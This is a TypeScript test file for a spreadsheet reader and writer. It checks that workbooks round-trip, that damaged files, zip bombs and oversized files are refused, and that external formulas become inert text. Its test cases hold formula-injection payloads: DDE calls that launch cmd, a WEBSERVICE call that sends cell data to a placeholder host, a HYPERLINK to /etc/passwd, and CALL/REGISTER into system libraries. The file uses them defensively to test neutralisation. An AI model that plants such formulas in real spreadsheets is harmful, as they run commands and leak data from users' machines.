import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as xlsx from '@e965/xlsx'
import { strToU8, zipSync } from 'fflate'
import { type DataValidation, writeXlsx } from 'hucre/xlsx'
import { afterAll, describe, expect, test } from 'vitest'
import { emptySheet, MOST_BOOK_CELLS, type SheetBook } from '#contract/sheet-book.ts'
import { Refusal } from '#server/kernel/errors.ts'
import { readBookFile } from './read-book-file.ts'
import { readBook } from './sheet-files.ts'
import { writeSheetBook } from './write-sheet-book.ts'

const folder = mkdtempSync(join(tmpdir(), 'digao-sheet-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

let files = 0
const stored = (bytes: Uint8Array | string) => {
  files += 1
  const path = join(folder, `${files}`)
  writeFileSync(path, bytes)
  return path
}
const reading = async (bytes: Uint8Array | string, name = '文件.xlsx') => {
  const path = stored(bytes)
  return readBookFile(typeof bytes === 'string' ? Buffer.from(bytes) : bytes, { path, name })
}
const cellOf = (book: SheetBook, r: number, c: number) =>
  book.sheets[0]?.cells.find((cell) => cell.r === r && cell.c === c)
const refusal = (bytes: Uint8Array | string) =>
  reading(bytes).then(
    () => 'read',
    (error: unknown) => (error instanceof Refusal ? error.key : (error as { code: string }).code),
  )
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

const styled: SheetBook = {
  styles: [
    {
      font: '微软雅黑',
      size: 10,
      bold: true,
      color: '1D2129',
      fill: 'FBFAF7',
      horizontal: 'center',
      vertical: 'center',
    },
    {
      font: '宋体',
      size: 9,
      italic: true,
      underline: true,
      strike: true,
      border: { top: { style: 'thin', color: 'E6E3DC' }, bottom: { style: 'double', color: '1D2129' } },
      format: '#,##0.00;[Red]-#,##0.00;"-"',
    },
    { wrap: true, indent: 2, rotation: -45, vertical: 'top' },
    { format: 'yyyy-mm-dd' },
    { format: '0.00%' },
  ],
  names: [{ name: 'C15.allowed', range: "'业务招待费 A'!$B$2" }],
  sheets: [
    {
      ...emptySheet('s1', '业务招待费 A'),
      rows: 60,
      columns: 18,
      cells: [
        { r: 0, c: 0, v: '项目', s: 0 },
        { r: 0, c: 1, v: null, s: 0 },
        { r: 1, c: 0, v: '=不是公式', s: 2 },
        { r: 1, c: 1, v: 355512.19, s: 1 },
        { r: 2, c: 0, v: '+86 10', s: 2 },
        { r: 2, c: 1, v: 206162.1, f: 'SUM(B2:B2)-149350.09', s: 1 },
        { r: 3, c: 1, v: 45658, s: 3 },
        { r: 4, c: 1, v: 0.6, s: 4 },
        { r: 5, c: 1, v: true },
        { r: 6, c: 1, v: '@SUM(A1)' },
        { r: 7, c: 1, v: '-1+cmd' },
        { r: 8, c: 1, v: 0.1 },
        { r: 9, c: 1, v: 99999999999.99 },
      ],
      merges: [{ top: 0, left: 0, bottom: 0, right: 1 }],
      widths: { 0: 28, 1: 18.5 },
      heights: { 0: 30, 20: 45 },
      hiddenRows: [21],
      hiddenColumns: [3],
      frozen: { rows: 1, columns: 1 },
      comments: [{ row: 1, column: 1, author: '张三', text: '与总账核对' }],
      images: [
        { row: 2, column: 3, toRow: 4, toColumn: 5, width: 315, height: 210, type: 'png', data: PIXEL, alt: '印章' },
      ],
      gridlines: false,
    },
    { ...emptySheet('s2', '隐藏'), rows: 60, columns: 18, hidden: true, cells: [{ r: 0, c: 0, v: 'x' }] },
  ],
}

/** Styles spelled out at each cell: their numbering is nobody's business. */
const spelled = ({ sheets, styles, names }: SheetBook) => ({
  names,
  sheets: sheets.map((sheet) => ({
    ...sheet,
    cells: sheet.cells.map(({ s, ...cell }) => ({ ...cell, style: s === undefined ? undefined : styles[s] })),
  })),
})

describe('a spreadsheet that is written and read again', () => {
  test('keeps values, formulas, formats, fonts, borders, merges, sizes, frozen panes, comments, pictures and names', async () => {
    const { book, notes } = await reading(await writeSheetBook(styled))
    expect(spelled(book)).toEqual(spelled(styled))
    expect(notes).toEqual([])
  })

  test('keeps text that begins like a formula as text, in the file too', async () => {
    const cells = xlsx.read(await writeSheetBook(styled), { cellFormula: true }).Sheets['业务招待费 A'] ?? {}
    for (const place of ['A2', 'A3', 'B7', 'B8']) {
      expect(cells[place]).toMatchObject({ t: 's' })
      expect(cells[place]).not.toHaveProperty('f')
    }
  })

  test('is the same file read through the thread that guards the server', async () => {
    const path = stored(await writeSheetBook(styled))
    expect(spelled((await readBook(path, 'a.xlsx')).book)).toEqual(spelled(styled))
  })
})

describe('a spreadsheet that others made', () => {
  test('loses no formula that was filled down', async () => {
    const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
      <row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*$A$1+Sheet1!A1</f><v>2</v></c></row>
      <row r="2"><c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="0"/><v>4</v></c></row>
      <row r="3"><c r="A3"><v>3</v></c><c r="B3"><f t="shared" si="0"/><v>6</v></c></row></sheetData></worksheet>`
    const { book } = await reading(await withSheet(sheet))
    expect(cellOf(book, 1, 1)).toMatchObject({ f: 'A2*$A$1+Sheet1!A2', v: 4 })
    expect(cellOf(book, 2, 1)).toMatchObject({ f: 'A3*$A$1+Sheet1!A3', v: 6 })
  })

  test.each([
    '[1]Sheet1!A1',
    "'C:\\data\\[账.xlsx]表'!A1",
    'WEBSERVICE("http://x.example/"&A1)',
    'HYPERLINK("file:///etc/passwd","x")',
    'HYPERLINK("http://x.example","x")',
    "cmd|'/c calc'!A0",
    'DDE("cmd","/c calc","x")',
    'CALL("kernel32","Beep","JJJ",1,1)',
    'REGISTER("a","b")',
    '1+RTD("a",,"b")',
  ])('shows the formula %s as text and says so', async (formula) => {
    const bytes = await writeXlsx({
      sheets: [{ name: 'Sheet1', cells: new Map([['0,0', { formula, formulaResult: null }]]) }],
    })
    const { book, notes } = await reading(bytes)
    expect(cellOf(book, 0, 0)?.f).toBeUndefined()
    expect(notes).toContainEqual({ kind: 'externalFormula', sheet: 'Sheet1', cell: 'A1', text: `=${formula}` })
    // nor does it come back to life in a file of ours
    const again = xlsx.read(await writeSheetBook(book), { cellFormula: true }).Sheets['Sheet1'] ?? {}
    expect(again['A1']?.f).toBeUndefined()
  })

  test.each([
    'SUM(A1:A3)',
    'VLOOKUP(A1,Sheet2!A:B,2,0)',
    'IF(A1="[1]x!",1,2)',
    'HYPERLINK("#Sheet2!A1","目录")',
    'Table1[金额]',
  ])('keeps the formula %s', async (formula) => {
    const bytes = await writeXlsx({
      sheets: [{ name: 'Sheet1', cells: new Map([['0,0', { formula, formulaResult: 1 }]]) }],
    })
    expect(cellOf((await reading(bytes)).book, 0, 0)?.f).toBe(formula)
  })

  test('is read from an old xls with formats, widths and merges, and says that looks are lost', async () => {
    const sheet = xlsx.utils.aoa_to_sheet([
      ['科目', '金额'],
      ['库存现金', 12.5],
      ['合计', null],
    ])
    sheet['B3'] = { t: 'n', v: 12.5, z: '#,##0.00' }
    sheet['!merges'] = [{ s: { r: 0, c: 0 }, e: { r: 0, c: 1 } }]
    sheet['!cols'] = [{ wch: 30 }]
    const bytes: Uint8Array = xlsx.write(
      { SheetNames: ['表'], Sheets: { 表: sheet } },
      { type: 'buffer', bookType: 'biff8' },
    )
    const { book, notes } = await reading(bytes, '旧.xls')
    expect(cellOf(book, 1, 0)?.v).toBe('库存现金')
    expect(cellOf(book, 2, 1)?.v).toBe(12.5)
    expect(book.sheets[0]?.merges).toEqual([{ top: 0, left: 0, bottom: 0, right: 1 }])
    expect(notes.map(({ kind }) => kind)).toContain('stylesLost')
  })

  test('is read from ods and from text, whose formulas stay words', async () => {
    const sheet = xlsx.utils.aoa_to_sheet([['科目', 1.5]])
    const ods: Uint8Array = xlsx.write(
      { SheetNames: ['表'], Sheets: { 表: sheet } },
      { type: 'buffer', bookType: 'ods' },
    )
    expect(cellOf((await reading(ods, 'a.ods')).book, 0, 0)?.v).toBe('科目')
    const { book } = await reading('编码,金额\n0010,=1+1\n1002,3.50\n', 'a.csv')
    expect(cellOf(book, 1, 0)?.v).toBe('0010')
    expect(cellOf(book, 1, 1)).toEqual({ r: 1, c: 1, v: '=1+1' })
    expect(cellOf(book, 2, 1)?.v).toBe(3.5)
  })
})

describe('a file that is no spreadsheet for the screen', () => {
  test('is refused in words: broken, cut off, a bomb, a picture, another archive', async () => {
    const good = await writeSheetBook(styled)
    expect(await refusal(good.slice(0, good.length / 2))).toMatch(/^file(?:Truncated|Damaged)$/)
    expect(await refusal(zipSync({ 'a.txt': strToU8('x') }))).toBe('fileArchive')
    expect(await refusal(Buffer.from(PIXEL, 'base64'))).toBe('filePicture')
    expect(await refusal(zipSync({ 'xl/workbook.xml': new Uint8Array(40 * 1024 * 1024) }))).toBe('fileBomb')
    expect(await refusal(await withSheet('<worksheet><sheetData><row r="1"><c r="A1"><v>1'))).toMatch(
      /^(?:read|fileDamaged)$/,
    )
  })

  test('is refused where it has more cells than a screen takes', async () => {
    const rows = Array.from({ length: MOST_BOOK_CELLS / 100 + 1 }, (_, row) => Array.from({ length: 100 }, () => row))
    expect(await refusal(await writeXlsx({ sheets: [{ name: 'a', rows }] }))).toBe('sheetTooManyCells')
  })

  test('may have 16,384 columns and two far corners, but no rectangle of a billion cells', async () => {
    const wide = await withSheet(
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row></sheetData></worksheet>',
    )
    const { book } = await reading(wide)
    expect(book.sheets[0]?.cells.map(({ c }) => c)).toEqual([0, 16_383])
    expect(book.sheets[0]?.columns).toBe(16_384)
    const corners = await withSheet(
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData></worksheet>',
    )
    const path = stored(corners)
    await expect(readBook(path, 'a.xlsx')).rejects.toMatchObject({
      key: expect.stringMatching(/^sheetTooLarge$|^fileDamaged$/),
    })
  })
})

/** A workbook whose only sheet is this xml. */
async function withSheet(sheet: string): Promise<Uint8Array> {
  const { unzipSync } = await import('fflate')
  const parts = unzipSync(await writeXlsx({ sheets: [{ name: 'Sheet1', rows: [[1]] }] }))
  return zipSync({ ...parts, 'xl/worksheets/sheet1.xml': strToU8(sheet) })
}

describe('what the grid does not draw', () => {
  const rule = { type: 'cellIs', priority: 1, operator: 'greaterThan', formula: '100', range: 'B2:B9' } as const
  const list: DataValidation = { type: 'list', values: ['是', '否'], range: 'C2:C9' }
  const file = (formula: string) =>
    writeXlsx({
      sheets: [
        {
          name: '往来',
          rows: [['客户', '余额', '回函']],
          conditionalRules: [{ ...rule, formula, style: { font: { bold: true } } }],
          dataValidations: [list],
        },
      ],
    })

  test('conditional formats and checks of entries are named, and stand in the file that is downloaded', async () => {
    const { book, notes } = await reading(await file('100'))
    expect(notes).toContainEqual({ kind: 'conditional', sheet: '往来', cell: '', text: '1' })
    expect(notes).toContainEqual({ kind: 'validation', sheet: '往来', cell: '', text: '1' })
    const again = await reading(await writeSheetBook(book))
    expect(again.book.sheets[0]?.rules).toMatchObject([{ ...rule, style: { bold: true } }])
    expect(again.book.sheets[0]?.validations).toMatchObject([list])
  })

  test('a rule that calls out is left out, on the way in and on the way out', async () => {
    const out = 'WEBSERVICE("http://x.test/"&A1)'
    const { book } = await reading(await file(out))
    expect(book.sheets[0]?.rules).toBeUndefined()
    const sheets = book.sheets.map((sheet) => Object.assign(sheet, { rules: [{ ...rule, formula: out }] }))
    const again = await reading(await writeSheetBook({ ...book, sheets }))
    expect(again.book.sheets[0]?.rules).toBeUndefined()
  })
})
